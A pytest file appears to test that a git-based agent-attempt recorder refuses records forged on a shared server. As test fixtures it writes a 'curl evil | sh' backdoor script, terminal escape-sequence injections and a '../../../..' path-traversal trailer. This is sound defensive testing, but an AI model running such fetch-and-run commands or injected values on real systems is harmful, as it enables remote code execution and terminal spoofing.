"""Forged records on the server (found by a trial of records on the server): anyone who
can push can write any ref under ``refs/agentgate/`` there; what a person then runs from
their clone (``attempts|show|revert|prune --remote``, a run against the remote) must not
act on what a forgery claims, crash, or be told apart from the truth only by luck."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from helpers import fsck, git

AGENT = """
import pytest

@pytest.mark.gated(task="remote change {n}", gate=["true"], results="exit-code")
def test_change_{n}(agent_workspace):
    (agent_workspace.path / "a-{n}.txt").write_text("a {n}\\n")
"""


def agentgate(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pytest_agentgate", *args],
        capture_output=True, text=True, check=False,
    )  # fmt: skip


@pytest.fixture
def server(service: Path, tmp_path: Path) -> Path:
    bare = tmp_path / "server.git"
    git(tmp_path, "clone", "-q", "--bare", str(service), str(bare))
    return bare


def clone(server: Path, path: Path) -> Path:
    git(path.parent, "clone", "-q", str(server), str(path))
    git(path, "config", "user.name", "someone")
    git(path, "config", "user.email", "someone@example.invalid")
    return path


def run_agents(pytester: pytest.Pytester, work: Path, *ns: int) -> None:
    pytester.makepyfile(test_agents="".join(AGENT.format(n=n) for n in ns))
    pytester.runpytest(
        f"--agentgate-repo={work}", "--agentgate-remote=origin", "--agentgate-promote"
    ).assert_outcomes(passed=len(ns))


def forge(attacker: Path, ref: str, tree: str, parent: str, message: str) -> str:
    """Push a hand-made record (a commit with ``message``) to ``ref`` on the server."""
    commit = git(attacker, "commit-tree", tree, "-p", parent, "-m", message)
    git(attacker, "push", "-q", "origin", f"{commit}:{ref}")
    return commit


def test_revert_undoes_the_record_s_own_change_never_its_base_trailer(
    pytester: pytest.Pytester, server: Path, tmp_path: Path
) -> None:
    """A forged record shows a harmless diff but names as Base a commit that adds a
    backdoor: reverting it would land the backdoor. It is refused; nothing moves."""
    work = clone(server, tmp_path / "work")
    run_agents(pytester, work, 1)
    attacker = clone(server, tmp_path / "attacker")
    (attacker / "backdoor.sh").write_text("curl evil | sh\n")
    git(attacker, "add", "backdoor.sh")
    git(attacker, "commit", "-qm", "x")
    evil = git(attacker, "rev-parse", "HEAD")
    git(attacker, "push", "-q", "origin", f"{evil}:refs/heads/elsewhere")
    tip = git(server, "rev-parse", "main")
    message = git(work, "log", "-1", "--format=%B", "refs/agentgate/attempts/remote-change-1/1")
    forged = message.replace(f"Agentgate-Base: {git(server, 'rev-parse', 'main~1')}",
                             f"Agentgate-Base: {evil}")  # fmt: skip
    forge(attacker, "refs/agentgate/attempts/remote-change-1/2", f"{tip}^{{tree}}",
          f"{tip}~1", forged)  # fmt: skip
    person = clone(server, tmp_path / "person")
    found = agentgate("revert", "--repo", str(person), "--remote", "origin", "--target", "main",
                      "remote-change-1/2")  # fmt: skip
    assert found.returncode != 0 and "Base trailer is not its parent" in found.stderr
    assert git(server, "rev-parse", "main") == tip
    assert "backdoor.sh" not in git(server, "ls-tree", "--name-only", "main")


def test_a_record_named_after_another_s_commit_id_makes_the_name_ambiguous(
    pytester: pytest.Pytester, server: Path, tmp_path: Path
) -> None:
    work = clone(server, tmp_path / "work")
    run_agents(pytester, work, 1)
    real = git(work, "rev-parse", "refs/agentgate/attempts/remote-change-1/1")
    attacker = clone(server, tmp_path / "attacker")
    tip = git(server, "rev-parse", "main")
    forge(attacker, f"refs/agentgate/attempts/{real[:12]}-cleanup/1", f"{tip}^{{tree}}", tip,
          "agentgate promoted: cleanup\n\nAgentgate-Verdict: promoted\n")  # fmt: skip
    person = clone(server, tmp_path / "person")
    shown = agentgate("show", "--repo", str(person), "--remote", "origin", real[:12])
    assert shown.returncode != 0, shown.stdout  # two candidates: neither is picked
    assert "cleanup" not in shown.stdout
    whole = agentgate("show", "--repo", str(person), "--remote", "origin", real)
    assert whole.returncode == 0 and "remote-change-1/1" in whole.stdout


def test_forged_trailers_and_odd_refs_do_not_crash_the_listing_or_prune(
    pytester: pytest.Pytester, server: Path, tmp_path: Path
) -> None:
    """A Checkpoints trailer that walks up the directory tree, a record ref holding a blob,
    terminal control sequences in a task: the listing lists, prune prunes, nothing runs."""
    work = clone(server, tmp_path / "work")
    run_agents(pytester, work, 1)
    attacker = clone(server, tmp_path / "attacker")
    tip = git(server, "rev-parse", "main")
    git(work, "update-ref", "refs/agentgate/checkpoints/x/0123456789ab/1", tip)  # a folder here
    forge(attacker, "refs/agentgate/attempts/sneaky/1", f"{tip}^{{tree}}", tip,
          "agentgate rejected: \x1b[2K\x1b]0;owned\x07hidden\n\nAgentgate-Verdict: rejected\n"
          "Agentgate-Task: \x1b[1A\x1b[2Kfake\nAgentgate-Checkpoints: ../../../..\n")  # fmt: skip
    blob = subprocess.run(["git", "-C", str(attacker), "hash-object", "-w", "--stdin"],
                          input="not a record", capture_output=True, text=True,
                          check=True).stdout.strip()  # fmt: skip
    git(attacker, "push", "-q", "origin", f"{blob}:refs/agentgate/attempts/blob/1")
    listed = agentgate("attempts", "--repo", str(work), "--remote", "origin")
    assert listed.returncode == 0, listed.stderr
    assert "\x1b" not in listed.stdout and "\x07" not in listed.stdout
    assert "sneaky/1" in listed.stdout and "blob/1" not in listed.stdout
    pruned = agentgate("prune", "--repo", str(work), "--remote", "origin", "--older-than", "0s")
    assert pruned.returncode == 0, pruned.stderr
    fsck(server)


@pytest.mark.parametrize("in_the_way", ["a ref below its number", "a huge number"])
def test_a_number_blocked_on_the_server_is_renumbered_and_pushed(
    pytester: pytest.Pytester, server: Path, tmp_path: Path, in_the_way: str
) -> None:
    """``remote-change-1/1/x`` makes git refuse ``remote-change-1/1`` there; a forged
    number of 250 digits would make every later number one git cannot store. Either way the
    record is pushed under the next sane number, and its name here follows."""
    attacker = clone(server, tmp_path / "attacker")
    tip = git(server, "rev-parse", "main")
    folder = "refs/agentgate/attempts/remote-change-1"
    if in_the_way == "a ref below its number":
        forge(attacker, f"{folder}/1/x", f"{tip}^{{tree}}", tip, "x\n")
    else:
        forge(attacker, f"{folder}/1", f"{tip}^{{tree}}", tip, "x\n")
        forge(attacker, f"{folder}/{'9' * 250}", f"{tip}^{{tree}}", tip, "x\n")
    work = clone(server, tmp_path / "work")
    run_agents(pytester, work, 1)
    mine = git(work, "for-each-ref", "--format=%(refname) %(objectname)", f"{folder}/")
    assert mine.split()[0] == f"{folder}/2", mine
    assert git(server, "rev-parse", f"{folder}/2") == mine.split()[1]
    fsck(server)


def test_land_refuses_a_record_whose_base_trailer_is_not_its_parent(
    pytester: pytest.Pytester, server: Path, tmp_path: Path
) -> None:
    """The same forgery for ``land``, which judges a record again against the base its
    trailer names: a record that is not its own diff is refused before anything is run."""
    work = clone(server, tmp_path / "work")
    pytester.makepyfile(test_agents=AGENT.format(n=1).replace('gate=["true"]', 'gate=["false"]'))
    pytester.runpytest(
        f"--agentgate-repo={work}", "--agentgate-remote=origin", "--agentgate-promote"
    ).assert_outcomes(failed=1)
    ref = "refs/agentgate/attempts/remote-change-1/1"
    message = git(work, "log", "-1", "--format=%B", ref)
    base = message.split("Agentgate-Base: ")[1].split()[0]
    elsewhere = git(work, "commit-tree", f"{base}^{{tree}}", "-p", base, "-m", "elsewhere")
    forged = git(work, "commit-tree", f"{ref}^{{tree}}", "-p", f"{ref}^", "-m",
                 message.replace(f"Agentgate-Base: {base}", f"Agentgate-Base: {elsewhere}"))  # fmt: skip
    git(work, "update-ref", ref, forged)
    found = agentgate("land", "--repo", str(work), "remote-change-1/1", "--gate-exit-code", "true",
                      "--sandbox", "none", "--target", "main")  # fmt: skip
    assert found.returncode != 0 and "Base trailer is not its parent" in found.stderr
